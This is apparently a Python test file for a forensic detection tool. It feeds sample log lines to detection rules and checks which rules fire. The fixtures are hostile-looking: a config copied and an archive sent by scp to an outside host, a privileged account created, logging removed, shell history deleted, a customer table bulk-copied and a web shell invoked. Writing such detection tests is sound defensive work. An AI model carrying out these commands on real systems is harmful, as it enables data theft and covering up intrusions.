# ruff: noqa: E501 - lines are as they are written
"""Our own rules on lines as devices, hosts and databases write them: from the file to the rule."""

from __future__ import annotations

from pathlib import Path

import pytest

from amends.custody import Reader
from amends.timeline.detecting import Detecting
from amends.timeline.sigma import load_rules

OUT = "203.0.113.50"
LINES = {
    "IOS applet, configuration copied away": (
        "r1", "Mar  3 2026 04:10:11: %HA_EM-6-LOG: catchall: copy running-config tftp://203.0.113.50/r1.cfg", {"config_export"},
    ),
    "IOS archive, account made": (
        "r1", "Mar  3 2026 04:10:11: %PARSER-5-CFGLOG_LOGGEDCMD: User:admin  logged command:username eve privilege 15 secret 9 x",
        {"device_account"},
    ),
    "IOS applet, logging taken away": (
        "r1", "Mar  3 2026 04:10:11: %HA_EM-6-LOG: catchall: no logging host 10.2.0.9", {"log_command"},
    ),
    "IOS sign-in from outside": (
        "r1", f"Mar  3 2026 04:10:11: %SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: admin] [Source: {OUT}] [localport: 23] at "
        "04:10:11 UTC Tue Mar 3 2026", {"outside_sign_in", "outside_sign_in_device", "telnet_sign_in"},
    ),
    "ASA, command executed": (
        "fw1", "Mar  3 04:10:11 fw1 : %ASA-5-111010: User 'admin', running 'CLI' from IP 10.2.0.4, executed "
        "'copy running-config tftp://203.0.113.50/fw.cfg'", {"config_export"},
    ),
    "Junos, configuration shown": (
        "r2", "Mar  3 04:10:11  r2 mgd[4163]: UI_CMDLINE_READ_LINE: User 'admin', command 'show configuration | display set '",
        {"config_view"},
    ),
    "Linux, account made": (
        "db1", "Mar  3 04:10:11 db1 useradd[812]: new user: name=eve, UID=1007, GID=1007, home=/home/eve, shell=/bin/bash, from=/dev/pts/0",
        {"account_created"},
    ),
    "Linux, dump by sudo": (
        "db1", "Mar  3 04:10:11 db1 sudo:      ops : TTY=pts/1 ; PWD=/home/ops ; USER=postgres ; COMMAND=/usr/bin/pg_dump -Fc crm -f /tmp/crm.dump",
        {"dump_tool", "staged"},
    ),
    "Linux, archive sent out by sudo": (
        "db1", "Mar  3 04:10:11 db1 sudo:      ops : TTY=pts/1 ; PWD=/home/ops ; USER=root ; COMMAND=/usr/bin/scp /tmp/c.tgz eve@203.0.113.50:/in/",
        {"transfer_command"},
    ),
    "Linux audit, history removed": (
        "db1", 'type=SYSCALL msg=audit(1772511011.120:88): arch=c000003e syscall=59 success=yes exit=0 pid=9 auid=1000 uid=0 comm="rm" exe="/usr/bin/rm"\n'
        'type=EXECVE msg=audit(1772511011.120:88): argc=3 a0="rm" a1="-f" a2="/home/ops/.bash_history"', {"log_command"},
    ),
    "PostgreSQL audit, table copied out": (
        "db1", "2026-03-03 04:10:11.120 UTC [812] app@crm LOG:  AUDIT: SESSION,1,1,READ,COPY,TABLE,public.customers,"
        "COPY customers TO STDOUT,<not logged>,250000", {"dump_tool", "bulk_read"},
    ),
    "web server, shell called": (
        "web1", f'{OUT} - - [03/Mar/2026:04:10:11 +0000] "GET /uploads/a.php?cmd=whoami HTTP/1.1" 200 512 "-" "curl/8.0"', {"web_shell"},
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", LINES)
def test_a_line_fires_its_rules(tmp_path: Path, name: str) -> None:
    host, line, wanted = LINES[name]
    place = tmp_path / host / "var" / "log"
    place.mkdir(parents=True)
    (place / ("audit.log" if "type=" in line else "all.log")).write_text(line + "\n")
    run = Detecting([tmp_path], Reader(), load_rules())
    run.run()
    assert wanted <= {f.rule.name for f in run.detector.fired()}
    assert run.account.n_events == line.count("\n") + 1
